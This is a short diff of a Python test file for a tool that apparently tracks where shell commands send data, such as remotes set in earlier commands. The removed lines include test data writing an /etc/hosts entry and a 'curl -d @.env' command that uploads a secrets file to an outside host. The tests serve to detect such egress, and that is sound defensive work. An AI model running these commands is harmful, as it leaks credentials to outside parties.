@@ -32,9 +32,6 @@ def test_where_it_goes(command, places):
 def test_what_earlier_calls_said():
     assert read("export A_REPO=ssh://a.example/r").remotes == {"$A_REPO": "ssh://a.example/r"}
     assert to("borg create ::x .env", {"$A_REPO": "ssh://a.example/r"}) == ["ssh://a.example/r"]
-    named = read("echo '203.0.113.6 b.example' >> /etc/hosts").remotes
-    assert named == {"host:b.example": "203.0.113.6"}
-    assert to("curl -d @.env https://b.example", named) == ["https://b.example", "203.0.113.6"]
 
 
 @pytest.mark.parametrize(("command", "sent"), [
